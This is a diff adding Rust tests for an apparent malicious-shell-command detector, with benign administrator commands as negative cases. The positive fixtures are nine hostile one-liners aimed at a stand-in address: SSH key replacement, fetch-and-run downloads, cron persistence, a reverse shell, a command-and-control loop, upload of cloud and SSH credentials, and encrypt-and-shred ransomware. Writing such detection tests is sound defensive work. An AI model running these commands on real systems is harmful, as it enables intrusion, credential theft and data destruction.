@@ -198,3 +198,77 @@ fn tiny_scripts_are_harmless() {
         assert_eq!(line["malicious"], false, "{text:?}: {}", line["score"]);
     }
 }
+
+/// Does a scored line name a fact?
+fn has_fact(line: &Value, fact: &str) -> bool {
+    line["reasons"].as_array().unwrap().iter().any(|reason| reason["fact"] == fact)
+}
+
+/// Lines as bots type them into the shells of others, with keys and addresses of our own.
+const OF_BOTS: [(&str, &str); 9] = [
+    (
+        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDm1exampleexampleexample me\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
+        "persist.ssh-replaced",
+    ),
+    (
+        "cd ~; chattr -ia .ssh; lockr -ia .ssh\ncd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDm1exampleexampleexample me' >> .ssh/authorized_keys && chmod -R go= ~/.ssh; chattr +ia .ssh/authorized_keys",
+        "persist.ssh-key-literal",
+    ),
+    (
+        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh",
+        "fetch.run",
+    ),
+    (
+        "(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://192.0.2.7/i.sh | sh') | crontab -",
+        "persist.cron-fetches",
+    ),
+    ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1' >/dev/null 2>&1 &", "shell.reverse"),
+    (
+        "while true; do c=$(curl -s http://192.0.2.7/c); [ -n \"$c\" ] && eval \"$c\"; sleep 30; done",
+        "c2.loop",
+    ),
+    (
+        "p() { tar czf /tmp/.d.tgz ~/.aws ~/.kube ~/.ssh; }; s() { curl -s -F f=@/tmp/.d.tgz http://192.0.2.7/u; rm -f /tmp/.d.tgz; }; p; s; history -c",
+        "send.secret",
+    ),
+    (
+        "for f in $(find /home /srv -type f -name '*.doc*'); do openssl enc -aes-256-cbc -pbkdf2 -in \"$f\" -out \"$f.locked\" -k x && shred -u \"$f\"; done; echo 'Your files are encrypted. Send 1 BTC' > /home/README.txt",
+        "impact.encrypts-deletes",
+    ),
+    (
+        "mkdir -p /tmp/m && mount /dev/sda1 /tmp/m && chroot /tmp/m sh -c 'echo \"* * * * * root curl -s http://192.0.2.7/x|sh\" >> /etc/crontab'",
+        "escape.mount",
+    ),
+];
+
+#[test]
+fn lines_that_bots_type_are_found_and_what_they_do_is_told() {
+    let texts: Vec<&str> = OF_BOTS.iter().map(|(text, _)| *text).collect();
+    let (lines, errors, code) = score(scripts(&texts).path());
+    assert_eq!(code, Some(0), "{errors}");
+    for ((text, fact), line) in OF_BOTS.iter().zip(&lines) {
+        assert_eq!(line["malicious"], true, "{}: {text}", line["score"]);
+        assert!(has_fact(line, fact), "{fact} is missing: {line}");
+    }
+}
+
+#[test]
+fn lines_of_administrators_are_not_called_malicious() {
+    let texts = [
+        "cat /tmp/F | while read -r l; do n=$((n+1)); echo $n; done | tail -1",
+        "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg && apt-get update && apt-get install -y docker-ce",
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+        "tar czf - /srv/data | gpg --batch -e -r ops | aws s3 cp - s3://backup/data-$(date +%F).tgz.gpg",
+        "useradd -m deploy && install -d -m 700 -o deploy /home/deploy/.ssh && cp /root/deploy.pub /home/deploy/.ssh/authorized_keys",
+        "while ! curl -sf http://localhost:8080/healthz; do sleep 2; done",
+        "kubectl get pods -A -o wide | grep -v Running; kubectl -n kube-system logs ds/cilium --tail=50",
+        "find /var/log/app -name '*.log' -mtime +14 -delete; systemctl reload rsyslog",
+        "for h in web1 web2 web3; do ssh \"$h\" 'sudo systemctl restart app'; done",
+        "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes -subj /CN=localhost",
+    ];
+    let (lines, errors, code) = score(scripts(&texts).path());
+    assert_eq!(code, Some(0), "{errors}");
+    for (text, line) in texts.iter().zip(&lines) {
+        assert_eq!(line["malicious"], false, "{}: {text}", line["score"]);
+    }
+}
